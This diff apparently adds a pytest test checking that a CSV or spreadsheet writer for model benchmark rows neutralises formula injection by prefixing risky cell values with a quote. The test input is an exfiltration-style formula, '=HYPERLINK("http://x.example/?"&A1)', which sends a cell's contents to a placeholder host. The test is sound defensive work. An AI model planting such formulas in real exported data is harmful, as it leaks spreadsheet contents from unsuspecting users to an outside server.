@@ -55,3 +55,12 @@ def test_published_numbers_and_differences() -> None:
 def test_an_unknown_row_is_an_error() -> None:
     with pytest.raises(UnknownNameError, match="Llama-2-7b"):
         written(ROWS, {"a": "Llama-2-7B"})
+
+
+def test_names_are_no_formulas() -> None:
+    """With and without published numbers, which stay as they are printed."""
+    name = '=HYPERLINK("http://x.example/?"&A1)'
+    for references in (None, {}, {name: "Llama-2-7b"}):
+        [line] = written([replace(ROW, model=name, group="@x", value=-1.5)], references)
+        assert (line["model"], line["group"], line["value"]) == (f"'{name}", "'@x", "-1.5")
+    assert (line["published"], line["difference"]) == ("0.3796", str(-1.5 - 0.3796))
